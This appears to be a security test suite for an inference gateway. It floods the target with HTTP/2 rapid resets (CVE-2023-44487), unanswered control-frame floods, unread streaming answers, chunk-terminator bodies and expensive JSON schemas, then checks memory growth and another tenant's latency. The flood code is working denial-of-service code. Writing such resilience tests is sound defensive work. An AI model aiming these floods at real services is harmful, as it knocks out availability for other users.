"""Frames, bodies and answers that cost the client little: what they make a gateway hold, and how long others wait."""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import socket
import statistics
import time
from collections.abc import Awaitable, Callable, Sequence

import grpc

from protos import inference_pb2, inference_pb2_grpc
from tests.attack import http2
from tests.attack.base import ATTACKER, VICTIM, Row, Target, attack
from tests.attack.http2 import Connection, grpc_headers

FLOOD_S = 8.0
NUM_CONNECTIONS = 4
MOST_GROWTH_MIB = 64
MOST_WAIT_S = 2.0
"""For a call of another tenant's beside a flood, on a machine of two cores that also sends it."""
BACK_S = 5.0
RETRY_S = 0.05
TOKENIZE = "/tandem.v1.Inference/Tokenize"


def _address(target: Target) -> tuple[str, int]:
    host, _, port = target.grpc.rpartition(":")
    return host, int(port)


async def _beside(
    target: Target, what: str, flood: Callable[[float], Awaitable[str]], *, most_wait_s: float = MOST_WAIT_S
) -> list[Row]:
    """`flood` continues until a time of the monotonic clock, and says what it sent."""
    end_s = time.monotonic() + FLOOD_S
    base_mib = peak_mib = target.rss_mib()
    alone_s = await _call_s(target)
    flooding = asyncio.ensure_future(flood(end_s))
    waits_s = []
    while not flooding.done():
        waits_s.append(await _call_s(target))
        peak_mib = max(peak_mib, target.rss_mib())
        await asyncio.sleep(0.02)
    sent = await flooding
    until_s = time.monotonic() + BACK_S
    while (after_mib := target.rss_mib() - base_mib) > MOST_GROWTH_MIB / 4 and time.monotonic() < until_s:  # noqa: ASYNC110
        await asyncio.sleep(0.1)
    grown_mib, worst_s = peak_mib - base_mib, max(waits_s)
    took = f"median {statistics.median(waits_s) * 1e3:.0f} ms, worst {worst_s * 1e3:.0f} (alone {alone_s * 1e3:.0f})"
    return [
        Row(what, f"at most +{MOST_GROWTH_MIB} MiB", f"{sent}; +{grown_mib:.0f}, then {after_mib:+.0f} MiB",
            grown_mib <= MOST_GROWTH_MIB),
        Row(f"{what}: another's calls meanwhile", f"at most {most_wait_s:g} s", took, worst_s <= most_wait_s),
    ]  # fmt: skip


async def _call_s(target: Target) -> float:
    """Seconds of the victim's call, over gRPC and over HTTP, the longer one."""
    metadata = [("authorization", f"Bearer {target.keys[VICTIM]}")] if target.keys else []
    begun_s = time.monotonic()
    async with grpc.aio.insecure_channel(target.grpc) as channel:
        request = inference_pb2.TokenizeRequest(text="abc")
        await inference_pb2_grpc.InferenceStub(channel).Tokenize(
            request, metadata=metadata, timeout=30, wait_for_ready=True
        )
    between_s = time.monotonic()
    async with target.client(VICTIM) as http:
        (await http.post("/tokenize", json={"prompt": "abc"})).raise_for_status()
    return max(between_s - begun_s, time.monotonic() - between_s)


@attack(29)
async def rapid_resets(target: Target) -> Sequence[Row]:
    """Calls that are cancelled in the same write that begins them (CVE-2023-44487); no key."""
    block = grpc_headers(TOKENIZE)

    def send(end_s: float) -> str:
        num_streams = num_connections = 0
        while time.monotonic() < end_s:
            with Connection(_address(target)) as connection:
                num_connections += 1
                for number in range(1, 200_000, 2):
                    if not connection.is_open or time.monotonic() > end_s:
                        break
                    reset = http2.frame(http2.RST_STREAM, 0, number, (8).to_bytes(4, "big"))
                    connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) + reset)
                    num_streams += 1
                    if number % 64 == 1:
                        connection.read()
        return f"{num_streams} streams on {num_connections} connections"

    return await _beside(target, "streams that are reset at once", lambda end_s: asyncio.to_thread(send, end_s))


_FLOODS = {
    "PING": http2.frame(http2.PING, 0, 0, b"12345678") * 1000,
    "SETTINGS": http2.frame(http2.SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 1000,
    "PRIORITY": http2.frame(2, 0, 1, b"\0\0\0\0\x10") * 1000,
    "WINDOW_UPDATE": http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\0") * 10,
    "empty DATA": http2.frame(http2.DATA, 0, 1) * 1000,
}


@attack(29)
async def control_frames_without_end(target: Target) -> Sequence[Row]:
    """Frames that want an answer, from a client that reads none; no key."""
    rows: list[Row] = []
    for what, data in _FLOODS.items():

        def send(end_s: float, data: bytes = data) -> str:
            num_bytes = num_connections = 0
            while time.monotonic() < end_s - FLOOD_S / 2:
                num_connections += 1
                with contextlib.suppress(OSError), socket.create_connection(_address(target), timeout=1) as sock:
                    sock.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
                    block = grpc_headers(TOKENIZE)
                    sock.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block))
                    while time.monotonic() < end_s - FLOOD_S / 2:
                        sock.sendall(data)
                        num_bytes += len(data)
            return f"{num_bytes / 2**20:.1f} MiB on {num_connections} connections"

        rows += await _beside(target, f"{what} frames", lambda end_s, send=send: asyncio.to_thread(send, end_s))  # type: ignore[misc]
    return rows


@attack(30)
async def answers_that_nobody_reads(target: Target) -> Sequence[Row]:
    """Streams with log-probabilities over HTTP, whose client takes nothing."""
    body = {"prompt": "def f(", "n": 4, "max_tokens": 1500, "ignore_eos": True, "stream": True, "logprobs": 20}
    data = json.dumps(body).encode()
    head = f"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.keys[ATTACKER]}\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"

    async def flood(end_s: float) -> str:
        loop, statuses = asyncio.get_running_loop(), set[str]()
        with contextlib.ExitStack() as stack:
            for _ in range(16):
                sock = stack.enter_context(socket.socket())
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.setblocking(False)
                await loop.sock_connect(sock, target.address)
                await loop.sock_sendall(sock, head.encode() + data)
                async with asyncio.timeout(20):
                    statuses.add((await loop.sock_recv(sock, 12)).decode().split()[-1])
            await asyncio.sleep(max(0.0, end_s - time.monotonic()))
        return f"64 answers of 1,500 tokens, statuses {sorted(statuses)}"

    return await _beside(target, "answers with log-probabilities that nobody reads", flood)


@attack(31)
async def bodies_full_of_ends(target: Target) -> Sequence[Row]:
    """Chunks that hold what ends chunks, over and over; no key."""
    head = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    chunk = b"\r\n0\r\n\r\n" * 9000
    data = b"%x\r\n%b\r\n" % (len(chunk), chunk)

    async def send(end_s: float) -> int:
        num_bytes = 0
        while time.monotonic() < end_s:
            with contextlib.suppress(OSError, TimeoutError):
                _, writer = await asyncio.open_connection(*target.address)
                try:
                    async with asyncio.timeout(5):
                        writer.write(head + b"Transfer-Encoding: chunked\r\n\r\n")
                        while time.monotonic() < end_s:
                            writer.write(data)
                            await writer.drain()
                            num_bytes += len(data)
                finally:
                    writer.transport.abort()
        return num_bytes

    async def flood(end_s: float) -> str:
        sent = await asyncio.gather(*(send(end_s) for _ in range(NUM_CONNECTIONS)))
        return f"{sum(sent) / 2**20:.0f} MiB"

    return await _beside(target, "bodies full of ends of chunks", flood, most_wait_s=0.5)


@attack(28)
async def dear_schemas_of_one_tenant(target: Target) -> Sequence[Row]:
    """Different schemas that take long to check, many at once, beside another tenant's usual ones."""
    end_s, codes, tenants_codes, waits_s = time.monotonic() + 2 * FLOOD_S, set[int](), [], []

    async def attacker() -> None:
        async with target.client(ATTACKER) as http:
            while time.monotonic() < end_s:
                name = f"p{random.randrange(10**9)}"
                body = _structured({name: {"type": "integer", "multipleOf": 19_997}})  # 0.2 s of a core
                answer = await http.post("/v1/completions", json=body)
                codes.add(answer.status_code)
                await asyncio.sleep(RETRY_S if answer.status_code != 200 else 0)

    attackers = [asyncio.create_task(attacker()) for _ in range(48)]
    async with target.client(VICTIM) as http:
        await asyncio.sleep(1.0)
        while time.monotonic() < end_s:
            begun_s = time.monotonic()
            answer = await http.post("/v1/completions", json=_structured({f"a{random.randrange(10**9)}": {}}))
            waits_s.append(time.monotonic() - begun_s)
            tenants_codes.append(answer.status_code)
    await asyncio.gather(*attackers)
    happened = f"{tenants_codes.count(200)} of {len(tenants_codes)}, median {statistics.median(waits_s) * 1e3:.0f} ms, "
    happened += f"worst {max(waits_s) * 1e3:.0f}; the attacker's {sorted(codes)}"
    held = set(tenants_codes) == {200}
    return [Row("another's new schemas beside 48 dear ones at once", "all 200", happened, held)]


def _structured(members: dict[str, object]) -> dict[str, object]:
    schema = {"type": "object", "properties": members}
    form = {"type": "json_schema", "json_schema": {"name": "s", "schema": schema}}
    return {"prompt": "a", "max_tokens": 2, "response_format": form}
